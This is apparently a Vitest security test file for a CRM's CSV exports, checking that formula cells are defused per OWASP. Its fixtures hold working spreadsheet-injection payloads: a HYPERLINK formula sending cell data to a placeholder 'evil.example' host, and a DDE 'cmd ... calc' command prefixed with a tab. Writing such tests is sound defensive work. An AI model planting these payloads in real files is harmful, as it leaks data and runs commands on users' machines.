import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { sql } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { importCvrFile } from '../../modules/companies/import.ts';
import { invitationToken } from '../../modules/evaluations/invitations.ts';
import { apiAs, cvrFixture, expectStatus, type Api } from '../crm-fixtures.ts';
import { createTestApp, createUser, login, orgId, orgKeys, type TestContext } from '../helpers.ts';

/** Issue 10, hole 7: every CSV the app writes defuses formulas (OWASP), through one writer. */

/** The cells of a semicolon-separated CSV with quoted text (BOM and CRLF as the app writes them). */
function cells(body: string): string[][] {
  expect(body.startsWith('\uFEFF')).toBe(true);
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  const text = body.slice(1);
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ';') {
      row.push(cell);
      cell = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += c;
  }
  return rows;
}

/** Text cells a spreadsheet would run as a formula; numbers (like -20,0) are not text. */
const liveFormulas = (body: string) => cells(body).flat().filter((c) => /^[=+\-@\t\r]/.test(c) && !/^-?\d+(,\d+)?$/.test(c));

describe('formulas in the evaluation results export', () => {
  let t: TestContext;
  afterAll(() => t.close());
  let hubId: string;
  let manager: Api;

  beforeAll(async () => {
    t = await createTestApp({ publicRateLimit: 10_000 });
    await importCvrFile(t.database, cvrFixture);
    hubId = await orgId(t.database, orgKeys.sydjylland);
    await createUser(t.database, { email: 'admin@syd.dk', role: 'admin', org: orgKeys.sydjylland });
    await createUser(t.database, { email: 'manager@syd.dk', role: 'manager', org: orgKeys.sydjylland });
    const adviserId = await createUser(t.database, { email: 'adviser@syd.dk', role: 'adviser', org: orgKeys.sydjylland });
    const admin = apiAs(t, await login(t.app, 'admin@syd.dk'));
    const adviser = apiAs(t, await login(t.app, 'adviser@syd.dk'));
    manager = apiAs(t, await login(t.app, 'manager@syd.dk'));

    // The attack: an admin names an adviser with a formula that sends the sheet's neighbouring cells away.
    expectStatus(await admin.patch(`/users/${adviserId}`, { name: '=HYPERLINK("http://evil.example/?d="&B2;"Se resultater")' }), 200);

    // One answered evaluation of the adviser's guidance, so the adviser is a group in the export.
    const cvr = '42611433';
    const contact = expectStatus(await adviser.post(`/companies/${cvr}/contacts`, { name: 'Eva Ejer', email: 'ejer@firma.dk' }), 201);
    expectStatus(await adviser.post(`/companies/${cvr}/consents`, { purpose: 'evaluation', scope: 'all', givenByContactId: contact.id, givenByName: 'Eva Ejer', channel: 'meeting' }), 201);
    const engagement = expectStatus(await adviser.post('/engagements', { companyCvr: cvr, level: 'specialised', themes: ['growth'] }), 201);
    expectStatus(await adviser.post(`/engagements/${engagement.id}/close`, { version: engagement.version, outcome: 'Vækstplan' }), 200);
    const [invitation] = await t.database.rows<{ id: string }>(sql`SELECT id FROM evaluation_invitations`);
    const token = await invitationToken(t.database.db, invitation!.id);
    expectStatus(await t.app.inject({ method: 'POST', url: `/api/v1/public/evaluations/${token}`, payload: { nps: 3, effect: 'slet ikke' } }), 201);
  });

  it('writes the adviser’s name as defused text', async () => {
    const response = await manager.get(`/evaluations/results.csv?hub=${hubId}&groupBy=adviser`);
    expect(response.statusCode, response.body).toBe(200);
    expect(response.headers['content-type']).toContain('text/csv');
    const flat = cells(response.body).flat();
    expect(flat).toContain(`'=HYPERLINK("http://evil.example/?d="&B2;"Se resultater")`);
    expect(liveFormulas(response.body)).toEqual([]);
  });
});

describe('formulas in a campaign list export', () => {
  let t: TestContext;
  afterAll(() => t.close());
  let adviser: Api;
  const cvr = '42611433';

  beforeAll(async () => {
    t = await createTestApp();
    // Register data is written by whoever registers the company: a name and a town starting with a
    // tab or a carriage return, which spreadsheets strip before running the rest as a formula.
    const documents = readFileSync(cvrFixture, 'utf8').trim().split('\n');
    const doc = JSON.parse(documents.find((l) => l.includes(`"cvrNummer":${Number(cvr)}`))!);
    const v = doc.Vrvirksomhed;
    v.reklamebeskyttet = false;
    for (const n of v.navne) n.navn = '\t=cmd|\' /C calc\'!A0';
    if (v.virksomhedMetadata?.nyesteNavn) v.virksomhedMetadata.nyesteNavn.navn = '\t=cmd|\' /C calc\'!A0';
    const town = '\r+1+HYPERLINK("http://evil.example")';
    for (const address of [...v.beliggenhedsadresse, v.virksomhedMetadata?.nyesteBeliggenhedsadresse].filter(Boolean)) Object.assign(address, { postdistrikt: town, bynavn: null });
    const file = path.join(mkdtempSync(path.join(tmpdir(), 'kp-csv-')), 'register.jsonl');
    writeFileSync(file, JSON.stringify(doc) + '\n');
    await importCvrFile(t.database, file);
    await createUser(t.database, { email: 'adviser@syd.dk', role: 'adviser', org: orgKeys.sydjylland });
    adviser = apiAs(t, await login(t.app, 'adviser@syd.dk'));
  });

  it('defuses cells starting with a tab or a carriage return', async () => {
    const [company] = await t.database.rows<{ name: string; city: string }>(sql`SELECT name, city FROM companies WHERE cvr = ${cvr}`);
    expect(company).toEqual({ name: '\t=cmd|\' /C calc\'!A0', city: '\r+1+HYPERLINK("http://evil.example")' });
    const list = expectStatus(await adviser.post('/lists', { name: 'Kampagne', filters: { q: cvr } }), 201);
    expect(list.count).toBe(1);
    const response = await adviser.get(`/lists/${list.id}/companies.csv`);
    expect(response.statusCode).toBe(200);
    const [, row] = cells(response.body);
    expect(row![0]).toBe(cvr);
    expect(row![1]).toBe('\'\t=cmd|\' /C calc\'!A0');
    expect(row![4]).toBe('\'\r+1+HYPERLINK("http://evil.example")');
    expect(liveFormulas(response.body)).toEqual([]);
  });
});
